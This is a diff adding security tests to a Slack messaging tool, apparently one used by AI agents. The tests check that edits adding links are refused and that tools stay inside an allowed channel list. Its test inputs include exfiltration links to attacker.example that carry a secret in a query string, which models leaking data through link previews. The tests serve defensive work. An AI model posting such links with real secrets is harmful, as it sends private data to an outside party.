@@ -72,6 +72,61 @@ describe('SL-01: posted links never unfurl unless the operator allows their doma
   });
 });
 
+describe('SL-01 for edits: chat.update cannot be told not to unfurl', () => {
+  it('refuses an edit that adds a link, and sends the unfurl switches off with every edit', async () => {
+    await using h = await harness();
+    const { ts } = await h.ok<{ ts: string }>('slack_post_message', {
+      channel_id: 'C0GENERAL',
+      text: 'draft',
+    });
+    for (const text of [
+      ATTACK,
+      'see attacker.example/c?d=BASE64SECRET',
+      '[x](https://attacker.example/)',
+    ])
+      expect(
+        await h.fail('slack_update_message', { channel_id: 'C0GENERAL', timestamp: ts, text }),
+        text,
+      ).toMatch(/Slack cannot be told not to preview links in an edited message/);
+    expect(h.fake.calls('chat.update')).toHaveLength(0);
+    await h.ok('slack_update_message', { channel_id: 'C0GENERAL', timestamp: ts, text: 'final' });
+    expect(argsOfCall(h.fake.calls('chat.update')[0]!)).toMatchObject({
+      unfurl_links: 'false',
+      unfurl_media: 'false',
+      link_names: 'false',
+    });
+  });
+});
+
+describe('SL-02 for the new writing tools', () => {
+  it('edits, deletes, uploads and marks read nothing outside SLACK_CHANNEL_IDS', async () => {
+    await using h = await harness({
+      flags: { 'channel-ids': ['C0GENERAL'], 'upload-dir': '/tmp' },
+      env: { SLACK_USER_TOKEN: USER_TOKEN },
+    });
+    for (const channel of ['C0RANDOM', 'D0ALICE', '#random', '@alice']) {
+      for (const [tool, args] of [
+        ['slack_update_message', { timestamp: tsAt(1), text: 'x' }],
+        ['slack_delete_message', { timestamp: tsAt(1) }],
+        ['slack_upload_file', { content: 'x', filename: 'x.txt' }],
+        ['slack_mark_read', { timestamp: tsAt(1) }],
+      ] as const)
+        expect(await h.fail(tool, { channel_id: channel, ...args }), `${tool} ${channel}`).toMatch(
+          /outside SLACK_CHANNEL_IDS/,
+        );
+    }
+    for (const method of [
+      'chat.update',
+      'chat.delete',
+      'files.getUploadURLExternal',
+      'files.completeUploadExternal',
+      'conversations.mark',
+      'conversations.history',
+    ])
+      expect(h.fake.calls(method), method).toHaveLength(0);
+  });
+});
+
 describe('SL-02: SLACK_CHANNEL_IDS limits reading and writing', () => {
   const allowlisted = { 'channel-ids': ['C0GENERAL'] };
 
